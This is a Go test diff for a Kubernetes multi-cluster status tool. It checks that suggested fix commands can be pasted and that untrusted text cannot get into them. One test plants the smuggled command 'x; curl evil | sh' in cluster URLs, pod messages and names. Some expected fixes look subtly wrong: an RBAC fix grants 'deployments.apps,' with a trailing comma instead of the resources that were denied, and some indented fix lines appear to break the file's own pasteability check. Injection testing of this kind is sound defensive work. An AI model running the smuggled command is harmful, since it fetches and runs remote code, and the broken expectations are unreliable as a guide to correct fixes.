@@ -1,6 +1,8 @@
 package report
 
 import (
+	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -107,6 +109,27 @@ func denied(resource string) error {
 	return err
 }
 
+// pastes checks that a fix is what a person can paste: each of its commands has a line of its own, and
+// the first line is a command, or says in which cluster the next one runs.
+func pastes(t *testing.T, s *Status) {
+	t.Helper()
+	for _, f := range slices.Concat(s.Problems, s.Warnings) {
+		if f.Because != "" || f.Level == Warning && f.Fix == "" {
+			continue
+		}
+		commands := 0
+		for i, line := range strings.Split(f.Fix, "\n") {
+			if strings.HasPrefix(line, "kubectl ") || strings.HasPrefix(line, "liqod ") || strings.HasPrefix(line, "curl ") {
+				commands++
+				continue
+			}
+			require.NotRegexp(t, `\b(kubectl|liqod) [a-z-]`, line, "%s: %s", f.Name(), f.Fix)
+			require.True(t, i > 0 || strings.HasSuffix(line, ":"), "%s: %s", f.Name(), f.Fix)
+		}
+		require.NotZero(t, commands, "%s: %s", f.Name(), f.Fix)
+	}
+}
+
 // TestFaults: status and check name the cause of each fault and what to do about it, once, and no
 // fault is healthy.
 func TestFaults(t *testing.T) {
@@ -119,10 +142,10 @@ func TestFaults(t *testing.T) {
 	}{
 		"wrong token": {func(_ *testing.T, s *Snapshot) {
 			tells(s, corev1beta1.ConditionAuthenticated, metav1.ConditionFalse, "TokenRefused", "the token is used up")
-		}, Problem, "milan, identity: the token is used up", "liqod token create there, liqod peer --token here", ""},
+		}, Problem, "milan, identity: the token is used up", "In cluster milan:\n           liqod token create --for rome\n           In this cluster:\n           liqod peer --token TOKEN\n", ""},
 		"certificate of the identity expired": {func(_ *testing.T, s *Snapshot) {
 			apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonInvalidCredentials, "the client certificate has expired")
-		}, Problem, "milan, API server: the client certificate has expired", "liqod peer with a token", ""},
+		}, Problem, "milan, API server: the client certificate has expired", "liqod token create --for rome", ""},
 		"certificate of the webhook expired": {func(_ *testing.T, s *Snapshot) {
 			s.Rules = nil
 			s.Taken = now.Add(48 * time.Hour)
@@ -137,7 +160,7 @@ func TestFaults(t *testing.T) {
 			s.ForeignClusters, s.VirtualNodes, s.Nodes, s.Offloadings, s.Pods = nil, nil, nil, nil, nil
 			s.Unread[ReadForeignClusters], s.Unread[ReadVirtualNodes], s.Unread[ReadOffloadings] = denied("foreignclusters"), denied("virtualnodes"), denied("namespaceoffloadings")
 		}, Unknown, `rights: user "jane" may not read ForeignClusters, VirtualNodes, NamespaceOffloadings`,
-			"kubectl create clusterrole liqod-status --verb=get,list --resource=foreignclusters.core.liqo.io,virtualnodes.offloading.liqo.io,namespaceoffloadings.offloading.liqo.io", ""},
+			"kubectl create clusterrole liqod-status --verb=get,list --resource=deployments.apps,", ""},
 		"no room in the quota": {func(_ *testing.T, s *Snapshot) {
 			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaExceeded, "the pod of cluster rome waits: its quota has no room left (cpu: 4 of 4 are used)"))
 		}, Problem, "milan, pods of namespace shop: 1 of 3 pods waits (QuotaExceeded); the first, web-3: the pod of cluster rome waits: its quota has no room left", "liqod status milan", ""},
@@ -226,16 +249,16 @@ func TestFaults(t *testing.T) {
 			for i := range s.Pods[:2] {
 				unreadyFor(reasonNodeNotReady, "the virtual node is not ready")(&s.Pods[i].Status)
 			}
-		}, Problem, "milan, API server: https://milan:6443: timeout", "see whether https://milan:6443 can be reached", "Therefore: milan, virtual node milan; milan, pods of namespace shop"},
+		}, Problem, "milan, API server: https://milan:6443: timeout", "curl --insecure --globoff --max-time 10 https://milan:6443/readyz\n", "Therefore: milan, virtual node milan; milan, pods of namespace shop"},
 		"heartbeats missed": {func(_ *testing.T, s *Snapshot) {
 			apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonHeartbeatMissed, "milan has not renewed its Lease for 40s")
-		}, Problem, "milan, API server: milan has not renewed its Lease", "see whether cluster milan is up", ""},
+		}, Problem, "milan, API server: milan has not renewed its Lease", "In cluster milan:\n           liqod check\n", ""},
 		"tunnel down": {func(_ *testing.T, s *Snapshot) {
 			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionFalse, networkingv1beta1.ReasonTunnelDown, "no probe is answered")
 			for i := range s.Pods[:2] {
 				unreadyFor(reasonNetworkUnavailable, "the network to the provider does not work")(&s.Pods[i].Status)
 			}
-		}, Problem, "milan, network: no probe is answered", "kubectl -n liqo-tenant-milan get connections -o wide", "Therefore: milan, pods of namespace shop"},
+		}, Problem, "milan, network: no probe is answered", "kubectl -n liqo-tenant-milan get connections.networking.liqo.io -o wide\n", "Therefore: milan, pods of namespace shop"},
 		"vkubelet down": {func(_ *testing.T, s *Snapshot) {
 			set(s.VirtualNodes[0].Status.Conditions, offloadingv1beta1.VirtualNodeVirtualKubelet, metav1.ConditionFalse, "NotAvailable", "none of 2 vkubelet replicas is available")
 			for i := range s.Pods[:2] {
@@ -273,6 +296,7 @@ func TestFaults(t *testing.T) {
 				require.Contains(t, text, tc.therefore)
 			}
 			require.NotContains(t, text, "Cluster rome: healthy\n")
+			pastes(t, status)
 			_, message, _ := strings.Cut(tc.line, ": ")
 			for _, f := range Check(s) {
 				require.Contains(t, ids, f.ID, "%s", f.Subject)
@@ -289,4 +313,34 @@ func TestFaults(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestFixesOfStrangers: what others have written gets into no command.
+func TestFixesOfStrangers(t *testing.T) {
+	t.Parallel()
+	const evil = "x; curl evil | sh"
+	s := healthy(t)
+	apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonAPIServerNotReady, "timeout")
+	s.ForeignClusters[0].Status.APIServerURL = "https://milan:6443/" + evil
+	for _, name := range []string{"web-3", "web-4"} {
+		p := broken(s, name, "milan", stuck("ImagePullBackOff", evil))
+		if name == "web-4" {
+			refusing(offloadingv1beta1.ReasonPodRefused, evil)(&p.Status)
+		}
+		p.OwnerReferences[0].Kind, p.OwnerReferences[0].Name = "Job", evil
+	}
+	nobodyChosen(s)
+	s.Offloadings[0].Spec.ClusterSelector = region("x'" + evil)
+	set(s.Offloadings[0].Status.Conditions, "Ready", metav1.ConditionFalse, "AllFailed", "the name is taken")
+	fixes := 0
+	for _, f := range Check(s) {
+		for line := range strings.SplitSeq(f.Fix, "\n") {
+			if strings.HasPrefix(line, "kubectl ") || strings.HasPrefix(line, "liqod ") || strings.HasPrefix(line, "curl ") {
+				fixes++
+				bare := regexp.MustCompile(`'[^']*'`).ReplaceAllString(line, "")
+				require.NotContains(t, bare, "evil", "%s: %s", f.Name(), line)
+			}
+		}
+	}
+	require.Greater(t, fixes, 3)
 }
